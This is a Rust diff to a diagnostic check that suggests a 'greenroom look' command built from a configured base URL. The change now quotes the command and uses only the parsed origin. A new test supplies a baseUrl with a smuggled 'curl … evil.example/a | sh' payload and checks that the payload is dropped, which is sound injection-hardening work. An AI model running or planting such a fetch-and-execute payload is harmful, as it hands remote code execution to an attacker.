@@ -2,8 +2,8 @@
 
 use crate::{
     finding::Finding,
-    seen::{Seen, said},
-    target::Origin,
+    seen::{Seen, quoted, said},
+    target::{Origin, Target},
 };
 
 const ID: &str = "base-url";
@@ -21,14 +21,17 @@ pub(super) fn check(seen: &Seen) -> Vec<Finding> {
         .filter_map(|key| seen.config_text(key).map(|url| (key, said(url), Origin::of(url))))
         .collect();
     let asked = &target.origin;
-    if let (true, Some((key, url, _))) = (
+    if let (true, Some((key, url, Some(origin)))) = (
         asked.is_loopback(),
         configured.iter().find(|(_, _, origin)| origin.as_ref().is_some_and(|origin| !origin.is_loopback())),
     ) {
         let observed = format!(
             "You asked at {asked}, and {key} is {url}: what users get there, by its ingress and its certificate, can be seen only there"
         );
-        return vec![Finding::unknown(ID, observed).change(format!("greenroom look {url}"))];
+        // The base, unless the page has made up one, is known; of what the page says, the origin is enough.
+        let there = Target { origin: origin.clone(), base: target.base.clone() };
+        let command = format!("greenroom look {}", quoted(&there.to_string()));
+        return vec![Finding::unknown(ID, observed).change(command)];
     }
     let mut found = vec![];
     for (key, url, origin) in &configured {
@@ -117,6 +120,12 @@ mod tests {
     fn through_a_forwarded_port_nothing_is_said_of_the_ingress() {
         let mut seen = healthy();
         seen.target = Some("http://localhost:7007".parse().unwrap());
+        let told = only_unknown(check(&seen), ID);
+        assert_eq!(told.change.as_deref(), Some("greenroom look https://p.example"));
+        configured(
+            &mut seen,
+            r#"{"app":{"baseUrl":"https://p.example/x;curl$IFS-s$IFS'evil.example/a'|sh"}}"#,
+        );
         let told = only_unknown(check(&seen), ID);
         assert_eq!(told.change.as_deref(), Some("greenroom look https://p.example"));
     }
